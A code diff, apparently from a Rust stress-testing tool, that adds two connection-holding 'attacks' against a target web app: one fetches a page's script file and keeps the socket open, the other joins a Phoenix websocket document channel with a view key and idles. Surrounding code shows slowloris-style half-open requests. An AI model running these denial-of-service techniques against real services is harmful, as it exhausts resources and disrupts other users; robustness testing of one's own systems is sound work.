@@ -65,6 +65,8 @@ pub(crate) const ALL: &[Attack] = &[
     Attack { name: "updates that wait for others", go: dangling },
     Attack { name: "crashers of other libraries", go: crashers },
     Attack { name: "coming and going", go: churn },
+    Attack { name: "files unpacked, no key", go: unpacked },
+    Attack { name: "members who read nothing, view key", go: unread },
 ];
 
 impl Target {
@@ -170,6 +172,27 @@ fn half_open(target: &Target, held: &mut Vec<TcpStream>) -> Result<()> {
         stream.write_all(b"GET / HT")?;
         hold(held, stream, 600);
     }
+    Ok(())
+}
+
+fn unpacked(target: &Target, held: &mut Vec<TcpStream>) -> Result<()> {
+    let mut page = target.connect()?;
+    write!(page, "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", target.address)?;
+    let mut html = String::new();
+    page.read_to_string(&mut html)?;
+    let script = html.split('"').find(|word| word.ends_with(".js")).unwrap_or("/");
+    let mut stream = target.connect()?;
+    write!(stream, "GET {script} HTTP/1.1\r\nHost: {}\r\n\r\n", target.address)?;
+    hold(held, stream, 300);
+    Ok(())
+}
+
+fn unread(target: &Target, held: &mut Vec<TcpStream>) -> Result<()> {
+    let mut stream = target.socket(&format!("/socket/websocket?vsn=2.0.0&key={}", target.view))?;
+    let join = format!(r#"["1","1","doc:{}","phx_join",{{}}]"#, target.pad);
+    stream.write_all(&head(0x81, join.len() as u64))?;
+    stream.write_all(join.as_bytes())?;
+    hold(held, stream, 60);
     Ok(())
 }
 
